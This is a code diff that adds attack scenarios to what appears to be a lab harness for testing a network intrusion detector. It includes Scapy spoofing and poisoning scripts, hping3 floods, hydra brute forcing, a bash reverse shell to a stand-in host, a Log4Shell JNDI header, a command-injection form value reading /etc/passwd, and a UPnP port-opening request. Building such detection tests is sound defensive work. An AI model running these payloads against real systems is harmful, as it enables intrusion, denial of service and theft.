@@ -159,6 +159,38 @@ STARVE = (
 )
 
 
+REDIRECT = (
+    "for n in range(3):\n"
+    f" inner = IP(src='{address('desktop')}', dst='{WEB}')/UDP(sport=5555, dport=53)\n"
+    f" sendp(Ether(src='{mac('guest')}', dst='{mac('desktop')}')/IP(src='{address('router')}', dst='{address('desktop')}')"
+    f"/ICMP(type=5, code=1, gw='{address('guest')}')/inner)\n time.sleep(0.5)"
+)
+ROUTER_FLOOD = (
+    "for n in range(60):\n"
+    " m = '02:00:00:00:01:%02x' % n\n"
+    " sendp(Ether(src=m, dst='33:33:00:00:00:01')/IPv6(src='fe80::%x' % (n + 256), dst='ff02::1', hlim=255)"
+    "/ICMPv6ND_RA(routerlifetime=1800)/ICMPv6NDOptPrefixInfo(prefix='2001:db8:%x::' % n, prefixlen=64))"
+)
+POISON = (
+    "for n, name in enumerate(('fileserver', 'printsrv', 'intranet', 'scanner', 'wpad')):\n"
+    f" sendp(Ether(src='{mac('desktop')}', dst='01:00:5e:00:00:fc')/IP(src='{address('desktop')}', dst='224.0.0.252', ttl=1)"
+    "/UDP(sport=50000 + n, dport=5355)/DNS(id=n + 1, rd=0, qd=DNSQR(qname=name)))\n"
+    f" sendp(Ether(src='{mac('guest')}', dst='{mac('desktop')}')/IP(src='{address('guest')}', dst='{address('desktop')}')"
+    f"/UDP(sport=5355, dport=50000 + n)/DNS(id=n + 1, qr=1, qd=DNSQR(qname=name), "
+    f"an=DNSRR(rrname=name, rdata='{address('guest')}', ttl=30)))\n time.sleep(0.3)"
+)
+DHCPV6 = (
+    "from scapy.layers.dhcp6 import *\n"
+    f"d, g = '{mac('desktop')}', '{mac('guest')}'\n"
+    "for n in range(3):\n"
+    " c = DHCP6OptClientId(duid=DUID_LL(lladdr=d))\n"
+    " sendp(Ether(src=d, dst='33:33:00:01:00:02')/IPv6(src='fe80::10', dst='ff02::1:2')/UDP(sport=546, dport=547)"
+    "/DHCP6_Solicit(trid=n)/c)\n"
+    " sendp(Ether(src=g, dst=d)/IPv6(src='fe80::66', dst='fe80::10')/UDP(sport=547, dport=546)/DHCP6_Advertise(trid=n)"
+    "/DHCP6OptServerId(duid=DUID_LL(lladdr=g))/c/DHCP6OptDNSServers(dnsservers=['fe80::66']))\n time.sleep(0.5)"
+)
+
+
 # -- names -------------------------------------------------------------------------------------------------------------
 
 
@@ -296,6 +328,45 @@ def logs_in(command: str, start: Callable[[Lab, str], object]) -> Play:
     return play
 
 
+def reverse_shell(lab: Lab) -> None:
+    """As the usual one-liners make it; who listens types a command."""
+    code = (
+        "import socket, time\ns = socket.create_server(('', 4444))\nc = s.accept()[0]\ntime.sleep(0.5)\n"
+        "c.sendall(b'id\\n')\ntime.sleep(1)\n"
+    )
+    lab.start("net", PYTHON, "-c", code)
+    time.sleep(0.7)
+    lab.on("desktop", "bash", "-c", f"bash -i >& /dev/tcp/{BAD}/4444 0>&1", timeout_s=4)
+
+
+def hydra_form(lab: Lab) -> None:
+    servers.web(lab, "nas", 80)
+    words = lab.folder / "words"
+    words.write_text("\n".join(f"secret{n}" for n in range(120)) + "\n")
+    lab.on(
+        "guest", "hydra", "-I", "-t", "8", "-l", "root", "-P", str(words), address("nas"), "http-post-form",
+        "/login.php:user=^USER^&password=^PASS^:F=404", timeout_s=60,
+    )  # fmt: skip
+
+
+def opens_door(lab: Lab) -> None:
+    servers.web(lab, "router", 49152)
+    body = (
+        "<?xml version='1.0'?><s:Envelope><s:Body><u:AddPortMapping><NewExternalPort>22</NewExternalPort>"
+        "<NewProtocol>TCP</NewProtocol><NewInternalPort>22</NewInternalPort></u:AddPortMapping></s:Body></s:Envelope>"
+    )
+    url = f"http://{address('router')}:49152/ctl/IPConn"
+    lab.on("lamp", "curl", "-s", "-m", "3", "-o", "/dev/null", "-H", "Content-Type: text/xml", "-d", body, url)
+
+
+def asks_nas(*arguments: str) -> Play:
+    def play(lab: Lab) -> None:
+        servers.web(lab, "nas", 80)
+        lab.on("guest", "curl", "-s", "-m", "3", "-o", "/dev/null", *arguments, f"http://{address('nas')}/")
+
+    return play
+
+
 def web_server(lab: Lab, host: str) -> None:
     servers.web(lab, host, 80)
 
@@ -314,6 +385,9 @@ SCANS = (
     Attack("nmap -sN", "stealth_scan", HIGH, 15, ("nmap",), nmap("-sN", "--top-ports", "200", address("nas"))),
     Attack("nmap -sF", "stealth_scan", HIGH, 15, ("nmap",), nmap("-sF", "--top-ports", "200", address("nas"))),
     Attack("nmap -sX", "stealth_scan", HIGH, 15, ("nmap",), nmap("-sX", "--top-ports", "200", address("nas"))),
+    Attack("nmap -sA", "stealth_scan", HIGH, 15, ("nmap",), nmap("-sA", "--top-ports", "200", address("nas"))),
+    Attack("nmap -sn of a far /24", "host_sweep", HIGH, 30, ("nmap",),
+           run("guest", "nmap", "-n", "-sn", "-PE", "--max-retries", "0", "203.0.113.0/24", limit_s=30)),
     Attack("nmap -O", "os_probe", MEDIUM, 25, ("nmap",), guess_system),
     Attack("nmap -sn /24", "arp_sweep", MEDIUM, 10, ("nmap",), run("guest", "nmap", "-n", "-sn", "192.168.77.0/24")),
     Attack("arp-scan /24", "arp_sweep", MEDIUM, 10, ("arp-scan",), run("guest", "arp-scan", "-I", "eth0", "-l")),
@@ -332,6 +406,12 @@ LINK = (
     Attack("rogue router advertisement", "rogue_router", HIGH, 10, (),
            scapy("guest", advertise("guest", "fe80::66", "fd66::")),
            scapy("router", advertise("router", "fe80::1", "fd77::"))),
+    Attack("flood of router advertisements", "rogue_router", HIGH, 10, (), scapy("guest", ROUTER_FLOOD),
+           scapy("router", advertise("router", "fe80::1", "fd77::"))),
+    Attack("ICMP redirect as the router", "rogue_router", HIGH, 10, (), scapy("guest", REDIRECT), talk),
+    Attack("DHCPv6 server beside the router", "rogue_dhcp", HIGH, 15, (), scapy("guest", DHCPV6),
+           scapy("router", advertise("router", "fe80::1", "fd77::"))),
+    Attack("LLMNR answers for all", "name_spoof", HIGH, 10, (), scapy("guest", POISON), talk),
     Attack("dnsmasq as a second DHCP server", "rogue_dhcp", HIGH, 20, ("dnsmasq", "nmap"), rogue_dhcp, own_dhcp),
     Attack("DHCP starvation", "dhcp_flood", HIGH, 10, (), scapy("guest", STARVE)),
     Attack("one MAC in two VLANs", "mac_flapping", MEDIUM, 10, (), scapy("guest", FLAP)),
@@ -341,6 +421,13 @@ FLOODS = (
            run("guest", *HPING, "-S", "-p", "80", "-i", "u1000", "-c", "8000", address("nas"))),
     Attack("hping3 SYN flood, forged sources", "syn_flood", HIGH, 20, ("hping3",),
            run("guest", *HPING, "-S", "-p", "80", "-i", "u1000", "-c", "8000", "--rand-source", address("nas"))),
+    Attack("hping3 ACK flood, forged sources", "syn_flood", HIGH, 20, ("hping3",),
+           run("guest", *HPING, "-A", "-p", "80", "-i", "u1000", "-c", "8000", "--rand-source", address("nas"))),
+    Attack("hping3 UDP flood at port 443", "udp_flood", HIGH, 20, ("hping3",),
+           run("guest", *HPING, "-2", "-p", "443", "-i", "u1000", "-c", "8000", "--rand-source", address("nas"))),
+    Attack("hping3 as DNS reflectors", "reflection", HIGH, 20, ("hping3",),
+           run("guest", *HPING, "-2", "-k", "-s", "53", "-p", "40000", "-i", "u1000", "-c", "8000", "-d", "400",
+               "--rand-source", address("nas"))),
     Attack("hping3 ICMP flood", "icmp_flood", HIGH, 20, ("hping3",),
            run("guest", *HPING, "-1", "-i", "u1000", "-c", "8000", address("nas"))),
     Attack("hping3 UDP flood", "udp_flood", HIGH, 20, ("hping3",),
@@ -392,7 +479,14 @@ CLEAR = (
 GUESSES = (
     Attack("hydra at SSH", "brute_force", HIGH, 60, ("hydra", "sshd"), guessed("ssh", 22, servers.ssh)),
     Attack("hydra at FTP", "brute_force", HIGH, 60, ("hydra", "vsftpd"), guessed("ftp", 21, servers.ftp)),
+    Attack("hydra at a web form", "brute_force", HIGH, 60, ("hydra",), hydra_form),
     Attack("hydra at Telnet", "brute_force", HIGH, 200, ("hydra", "telnetd"), guessed("telnet", 23, servers.telnet)),
+    Attack("bash calls home", "backdoor", HIGH, 10, ("bash",), reverse_shell),
+    Attack("curl with Log4Shell in a header", "web_attack", HIGH, 10, ("curl",),
+           asks_nas("-H", "X-Api-Version: ${jndi:ldap://203.0.113.9/a}")),
+    Attack("curl with a command in a form", "web_attack", HIGH, 10, ("curl",),
+           asks_nas("--data-urlencode", "ip=127.0.0.1; cat /etc/passwd")),
+    Attack("curl asks the router for a door", "port_mapping", MEDIUM, 10, ("curl",), opens_door),
     Attack("connection from the internet", "inbound", LOW, 10, ("curl",), visited),
     Attack("upload of 700 MB", "upload", MEDIUM, 60, ("curl",), upload(700)),
     Attack("a stranger joins", "new_device", MEDIUM, 25, (), scapy(
